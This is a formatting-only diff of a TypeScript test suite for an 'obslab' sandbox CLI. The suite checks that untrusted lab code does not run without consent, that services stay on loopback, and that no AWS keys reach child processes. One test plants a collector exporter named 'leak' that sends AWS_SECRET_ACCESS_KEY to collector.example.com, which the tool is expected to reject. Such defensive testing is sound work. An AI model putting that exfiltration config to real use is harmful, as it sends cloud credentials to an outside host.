@@ -4,11 +4,25 @@
 // and refuse to run the folder's code from a script that did not say --yes.
 import { strict as assert } from 'node:assert';
 import { spawn } from 'node:child_process';
-import { existsSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import {
+  existsSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  readlinkSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { homedir, tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { main } from '../../src/cli/main';
-import { readSandboxState, sandboxCollectorVersion, sandboxDown, type SandboxState } from '../../src/node/sandbox/sandbox';
+import {
+  readSandboxState,
+  sandboxCollectorVersion,
+  sandboxDown,
+  type SandboxState,
+} from '../../src/node/sandbox/sandbox';
 import { collectorBinary, collectorVersions, installCollector } from '../harness/otelcol';
 import { repoRoot } from '../harness/lib';
 
@@ -36,7 +50,15 @@ function decodeAddress(hex: string): string {
   const [ip = '', port = ''] = hex.split(':');
   const words = ip.match(/.{8}/g) ?? [];
   const bytes = words.flatMap((w) => (w.match(/../g) ?? []).reverse().map((b) => parseInt(b, 16)));
-  const host = bytes.length === 4 ? bytes.join('.') : `[${(bytes.map((b) => b.toString(16).padStart(2, '0')).join('').match(/.{4}/g) ?? []).join(':')}]`;
+  const host =
+    bytes.length === 4
+      ? bytes.join('.')
+      : `[${(
+          bytes
+            .map((b) => b.toString(16).padStart(2, '0'))
+            .join('')
+            .match(/.{4}/g) ?? []
+        ).join(':')}]`;
   return `${host}:${parseInt(port, 16)}`;
 }
 
@@ -64,7 +86,12 @@ function listening(pid: number): string[] {
 
 describe(`the sandbox (collector ${sandboxCollectorVersion}) on a lab folder someone else wrote`, function () {
   this.timeout(15 * 60_000);
-  const saved = { cache: process.env['OBSLAB_CACHE'], collector: process.env['OBSLAB_COLLECTOR'], secret: process.env['AWS_SECRET_ACCESS_KEY'], key: process.env['AWS_ACCESS_KEY_ID'] };
+  const saved = {
+    cache: process.env['OBSLAB_CACHE'],
+    collector: process.env['OBSLAB_COLLECTOR'],
+    secret: process.env['AWS_SECRET_ACCESS_KEY'],
+    key: process.env['AWS_ACCESS_KEY_ID'],
+  };
   let cache: string;
   let lab: string;
   let state: SandboxState | undefined;
@@ -92,7 +119,10 @@ describe(`the sandbox (collector ${sandboxCollectorVersion}) on a lab folder som
     // The listeners written as the collector chart writes them: on the pod's IP, from the environment.
     const file = join(lab, 'k8s', 'otel-collector-config.yaml');
     const text = readFileSync(file, 'utf8')
-      .replace('endpoint: 0.0.0.0:4317', 'endpoint: ${env:MY_POD_IP}:4317\n          http:\n            endpoint: ${env:MY_POD_IP}:4318')
+      .replace(
+        'endpoint: 0.0.0.0:4317',
+        'endpoint: ${env:MY_POD_IP}:4317\n          http:\n            endpoint: ${env:MY_POD_IP}:4318',
+      )
       .replace('endpoint: 0.0.0.0:8889', 'endpoint: ${env:MY_POD_IP}:8889')
       .replace('host: 0.0.0.0', 'host: ${env:MY_POD_IP}');
     assert.equal((text.match(/\$\{env:MY_POD_IP\}/g) ?? []).length, 4, 'the test rewrote the four listeners');
@@ -102,7 +132,12 @@ describe(`the sandbox (collector ${sandboxCollectorVersion}) on a lab folder som
   after(async function () {
     this.timeout(60_000);
     await sandboxDown().catch(() => undefined);
-    for (const [name, value] of [['OBSLAB_CACHE', saved.cache], ['OBSLAB_COLLECTOR', saved.collector], ['AWS_SECRET_ACCESS_KEY', saved.secret], ['AWS_ACCESS_KEY_ID', saved.key]] as const) {
+    for (const [name, value] of [
+      ['OBSLAB_CACHE', saved.cache],
+      ['OBSLAB_COLLECTOR', saved.collector],
+      ['AWS_SECRET_ACCESS_KEY', saved.secret],
+      ['AWS_ACCESS_KEY_ID', saved.key],
+    ] as const) {
       if (value === undefined) delete process.env[name];
       else process.env[name] = value;
     }
@@ -110,8 +145,12 @@ describe(`the sandbox (collector ${sandboxCollectorVersion}) on a lab folder som
     rmSync(join(lab, '..'), { recursive: true, force: true });
   });
 
-  it('refuses to run the folder\'s code from a script without --yes (stdin not a terminal): exit 2, nothing started', async () => {
-    const child = spawn(process.execPath, ['--require', 'tsx/cjs', join(repoRoot, 'src', 'cli', 'main.ts'), 'sandbox', 'up', '--lab', lab], { cwd: repoRoot, stdio: ['pipe', 'pipe', 'pipe'], env: process.env });
+  it("refuses to run the folder's code from a script without --yes (stdin not a terminal): exit 2, nothing started", async () => {
+    const child = spawn(
+      process.execPath,
+      ['--require', 'tsx/cjs', join(repoRoot, 'src', 'cli', 'main.ts'), 'sandbox', 'up', '--lab', lab],
+      { cwd: repoRoot, stdio: ['pipe', 'pipe', 'pipe'], env: process.env },
+    );
     let err = '';
     child.stderr.on('data', (d: Buffer) => (err += d.toString()));
     child.stdin.end();
@@ -119,18 +158,30 @@ describe(`the sandbox (collector ${sandboxCollectorVersion}) on a lab folder som
     assert.equal(code, 2, err);
     assert.match(err, /Run the code in .*lab on this machine\?/);
     assert.match(err, /app\/app\.py: runs with Python under OpenTelemetry/);
-    assert.match(err, /obslab sandbox up: not started: pass --yes to run the lab folder's code without asking \(stdin is not a terminal\)/);
+    assert.match(
+      err,
+      /obslab sandbox up: not started: pass --yes to run the lab folder's code without asking \(stdin is not a terminal\)/,
+    );
     assert.equal(readSandboxState(), undefined);
   });
 
   it('refuses a config that would read ${env:AWS_SECRET_ACCESS_KEY}, naming it, before anything starts', async () => {
     const file = join(lab, 'k8s', 'otel-collector-config.yaml');
     const good = readFileSync(file, 'utf8');
-    writeFileSync(file, good.replace('verbosity: basic', 'verbosity: basic\n      otlphttp/leak:\n        endpoint: https://collector.example.com\n        headers:\n          x-key: ${env:AWS_SECRET_ACCESS_KEY}'));
+    writeFileSync(
+      file,
+      good.replace(
+        'verbosity: basic',
+        'verbosity: basic\n      otlphttp/leak:\n        endpoint: https://collector.example.com\n        headers:\n          x-key: ${env:AWS_SECRET_ACCESS_KEY}',
+      ),
+    );
     try {
       const r = await cli(['sandbox', 'up', '--lab', lab, '--yes']);
       assert.equal(r.code, 1);
-      assert.match(r.err, /collector: .*otel-collector-config\.yaml: the collector config reads \$\{env:AWS_SECRET_ACCESS_KEY\} \(line \d+\), a value from the environment, a file or a URL/);
+      assert.match(
+        r.err,
+        /collector: .*otel-collector-config\.yaml: the collector config reads \$\{env:AWS_SECRET_ACCESS_KEY\} \(line \d+\), a value from the environment, a file or a URL/,
+      );
       assert.equal(readSandboxState(), undefined);
     } finally {
       writeFileSync(file, good);
@@ -145,10 +196,18 @@ describe(`the sandbox (collector ${sandboxCollectorVersion}) on a lab folder som
     const collector = listening(state.collector.pid);
     // otlp grpc and http, the prometheus exporter and the collector's own telemetry.
     assert.equal(collector.length, 4, `collector listens on ${collector.join(', ')}`);
-    for (const [name, pid] of [['app', state.app.pid], ['collector', state.collector.pid], ['prometheus', state.prometheus.pid]] as const) {
+    for (const [name, pid] of [
+      ['app', state.app.pid],
+      ['collector', state.collector.pid],
+      ['prometheus', state.prometheus.pid],
+    ] as const) {
       const addrs = listening(pid);
       assert.ok(addrs.length > 0, `${name} listens somewhere`);
-      assert.deepEqual(addrs.filter((a) => !a.startsWith('127.0.0.1:')), [], `${name} listens on loopback only: ${addrs.join(', ')}`);
+      assert.deepEqual(
+        addrs.filter((a) => !a.startsWith('127.0.0.1:')),
+        [],
+        `${name} listens on loopback only: ${addrs.join(', ')}`,
+      );
     }
     assert.ok(collector.includes(state.collector.otlpGrpc));
     assert.doesNotMatch(readFileSync(state.collector.config, 'utf8'), /\$\{env:/);
@@ -157,11 +216,22 @@ describe(`the sandbox (collector ${sandboxCollectorVersion}) on a lab folder som
   it("hands this process' AWS keys to none of them: not in the app's, the collector's or Prometheus' /proc/<pid>/environ", () => {
     assert.ok(state?.app && state.collector && state.prometheus);
     assert.equal(process.env['AWS_SECRET_ACCESS_KEY'], secret, 'the parent holds the secret');
-    for (const [name, pid] of [['app', state.app.pid], ['collector', state.collector.pid], ['prometheus', state.prometheus.pid]] as const) {
+    for (const [name, pid] of [
+      ['app', state.app.pid],
+      ['collector', state.collector.pid],
+      ['prometheus', state.prometheus.pid],
+    ] as const) {
       const env = environ(pid);
       assert.equal(env['AWS_SECRET_ACCESS_KEY'], undefined, `${name} has no AWS_SECRET_ACCESS_KEY`);
-      assert.deepEqual(Object.keys(env).filter((k) => k.startsWith('AWS_')), [], `${name} has no AWS_* at all`);
-      assert.ok(!readFileSync(`/proc/${pid}/environ`, 'utf8').includes(secret), `${name}'s environment holds the secret's value nowhere`);
+      assert.deepEqual(
+        Object.keys(env).filter((k) => k.startsWith('AWS_')),
+        [],
+        `${name} has no AWS_* at all`,
+      );
+      assert.ok(
+        !readFileSync(`/proc/${pid}/environ`, 'utf8').includes(secret),
+        `${name}'s environment holds the secret's value nowhere`,
+      );
       assert.ok(env['PATH'], `${name} still has PATH`);
     }
     const app = environ(state.app.pid);
